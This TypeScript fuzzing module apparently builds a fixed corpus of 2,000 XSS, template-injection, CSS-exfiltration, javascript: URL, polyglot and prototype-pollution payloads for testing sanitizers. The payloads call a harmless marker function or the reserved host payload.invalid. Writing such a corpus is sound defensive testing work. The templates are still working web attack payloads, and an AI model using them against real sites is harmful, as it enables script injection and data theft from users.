/**
 * 2,000 texts that would run, load or break out somewhere if a place took them for markup, code, style, a link or a
 * template. Each calls `__hit(n)` with its own number, or asks for something at an address of its own.
 */
import { pick, randomFrom, type RandomSource } from '../fuzz/random.ts';

/** How many there are. */
export const corpusSize = 2000;

/** Where no request may ever go. */
const elsewhere = 'https://payload.invalid';

type Make = (hit: string, random: RandomSource) => string;

const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin'];
const ends = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '"}]}',
  '</td></tr></table>',
];
const tags = [
  'img',
  'svg',
  'body',
  'details open',
  'video',
  'audio',
  'input autofocus',
  'iframe',
  'object',
  'embed',
  'marquee',
  'x-y',
];

const families: Readonly<Record<string, readonly Make[]>> = {
  html: [
    (hit, random) => `<${pick(random, tags)} src=x ${pick(random, events)}=${hit}>`,
    (hit, random) => `<${pick(random, tags)}/${pick(random, events)}="${hit}"/src=/none>`,
    (hit) => `<script>${hit}</script>`,
    (hit) => `<ScRiPt src="${elsewhere}/${hit}"></sCrIpT>`,
    (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    (hit) => `<a href="javascript:${hit}">x</a>`,
    (hit) => `<form action="javascript:${hit}"><button autofocus>x</button></form>`,
    (hit) => `<meta http-equiv=refresh content="0;url=${elsewhere}/${hit}">`,
    (hit) => `<base href="${elsewhere}/${hit}/">`,
    (hit) => `<link rel=stylesheet href="${elsewhere}/${hit}.css">`,
    (hit) => `<img src="${elsewhere}/${hit}.png">`,
    (hit) => `<<img src=x onerror=${hit}//`,
  ],
  svg: [
    (hit, random) => `<svg ${pick(random, ['onload', 'onbegin'])}=${hit}>`,
    (hit) => `<svg><script>${hit}</script></svg>`,
    (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
    (hit) => `<svg><a xlink:href="javascript:${hit}"><text y=9>x</text></a></svg>`,
    (hit) => `<svg><foreignObject><iframe onload=${hit}></foreignObject></svg>`,
    (hit) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${hit}>#x"/></svg>`,
    (hit) => `<svg><style><img src=x onerror=${hit}></style></svg>`,
  ],
  math: [
    (hit) => `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
    (hit) => `<math href="javascript:${hit}">x</math>`,
    (hit) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`,
    (hit) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${hit} src>">`,
  ],
  entities: [
    (hit) => `&lt;img src=x onerror=${hit}&gt;`,
    (hit) => `&#60;img src=x onerror=${hit}&#62;`,
    (hit) => `&#x3c;script&#x3e;${hit}&#x3c;/script&#x3e;`,
    (hit) => `%3Cimg%20src%3Dx%20onerror%3D${hit}%3E`,
    (hit) => `\\u003cimg src=x onerror=${hit}\\u003e`,
    (hit) => `&amp;lt;svg onload=${hit}&amp;gt;`,
    (hit) => `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
  ],
  templates: [
    (hit) => `{{constructor.constructor('${hit}')()}}`,
    (hit) => `\${${hit}}`,
    (hit) => `<%= ${hit} %>`,
    (hit) => `{{#with (lookup this "constructor")}}{{${hit}}}{{/with}}`,
    (hit) => `#{${hit}} @{${hit}} {%${hit}%}`,
    (hit) => `[[${hit}]] {${hit}, plural, other {#}}`,
  ],
  css: [
    (hit) => `*{background:url(${elsewhere}/${hit})}`,
    (hit) => `</style><img src=x onerror=${hit}>`,
    (hit) => `@import "${elsewhere}/${hit}.css";`,
    (hit) => `x{width:expression(${hit});behavior:url(#x);-moz-binding:url(${elsewhere}/${hit})}`,
    (hit) => `input[value^=a]{background:image-set("${elsewhere}/${hit}" 1x)}`,
    (hit) => `@font-face{font-family:x;src:url(${elsewhere}/${hit})} *{font-family:x}`,
    (hit) => `*{--u:u\\72l(${elsewhere}/${hit});background:var(--u)}`,
    (hit) => `header,main{position:fixed;inset:0;z-index:99999;content:"${hit}"}`,
    (hit) => `red;background:url(${elsewhere}/${hit})`,
  ],
  urls: [
    (hit, random) => `${pick(random, ['java', 'JaVa', ' java', '\u0001java', 'java\t'])}script:${hit}`,
    (hit) => `data:text/html,<script>${hit}</script>`,
    (hit) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>`,
    (hit) => `vbscript:${hit}`,
    (hit) => `//payload.invalid/${hit}`,
    (hit) => `/\\payload.invalid/${hit}`,
    (hit) => `[x](javascript:${hit})`,
    (hit) => `![x](javascript:${hit})`,
    (hit) => `[x]: data:text/html,<script>${hit}</script> [x]`,
    (hit) => `<javascript:${hit}>`,
    (hit) => `..%2f..%2f${hit}`,
    (hit) => `image://${elsewhere}/${hit}`,
  ],
  unicode: [
    (hit) => `\u202e<img src=x onerror=${hit}>\u202c`,
    (hit) => `\uff1cimg src=x onerror=${hit}\uff1e`,
    (hit) => `<\u200bimg src=x onerror=${hit}>`,
    (hit) => `\ufeff<svg onload=${hit}>`,
    (hit) => `<img src=x\u2028onerror=${hit}>`,
    (hit) => `\u{1f9e8}${'\u0301'.repeat(8)}<b onmouseover=${hit}>\u{1f468}\u200d\u{1f469}</b>`,
  ],
  polyglots: [
    (hit) => `jaVasCript:/*-/*\`/*'/*"/**/(/* */${hit} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=${hit}//>`,
    (hit) => `';${hit};//";${hit};//--></script>">'><script>${hit}</script>`,
    (hit) => `"><details/open/ontoggle=${hit}>'"\`-->`,
    (hit) => `]]><![CDATA[<img src=x onerror=${hit}>]]>`,
  ],
  names: [
    () => '__proto__',
    () => 'constructor',
    () => 'hasOwnProperty',
    () => 'toString',
    () => '__defineGetter__',
    (hit) => `__proto__[x]=${hit}`,
    (hit) => `constructor.prototype.${hit}`,
  ],
  pictures: [
    (hit) => `{a|${hit}}`,
    (hit) => `{b}{c}{@value}{${hit}|x}`,
    (hit) => `function(){${hit}}`,
    (hit) => `{x|<img src=x onerror=${hit}>}`,
    (hit) => `\n{a|\n${hit}}`,
  ],
};

/** Ways to stand in front of or around a payload, so that it comes out of where a place may have put it. */
const wraps: readonly ((text: string, random: RandomSource) => string)[] = [
  (text) => text,
  (text, random) => pick(random, ends) + text,
  (text) => `x ${text} y`,
  (text) => `**${text}**`,
  (text) => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (text) => text.replaceAll(' ', '\t'),
];

/** The whole corpus; always the same. */
export function corpus(): string[] {
  const random = randomFrom(2_000);
  const made = new Set<string>();
  const makers = Object.values(families).flat();
  for (let at = 0; made.size < corpusSize; at += 1) {
    const make = makers[at % makers.length];
    if (!make) break;
    const text = make(`__hit(${made.size})`, random);
    made.add(at < makers.length ? text : pick(random, wraps)(text, random));
  }
  return [...made];
}

/** Some of the corpus, each at most once. */
export function drawnBy(seed: number, count: number): string[] {
  const random = randomFrom(seed);
  const left = corpus();
  for (let at = left.length - 1; at > 0; at -= 1) {
    const other = Math.floor(random() * (at + 1));
    [left[at], left[other]] = [left[other] ?? '', left[at] ?? ''];
  }
  return left.slice(0, count);
}

/** As few texts as hold all payloads that fit, none longer than `length`. */
export function gathered(payloads: readonly string[], length: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (payload.length > length) continue;
    if (last !== undefined && last.length + payload.length + 1 <= length) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
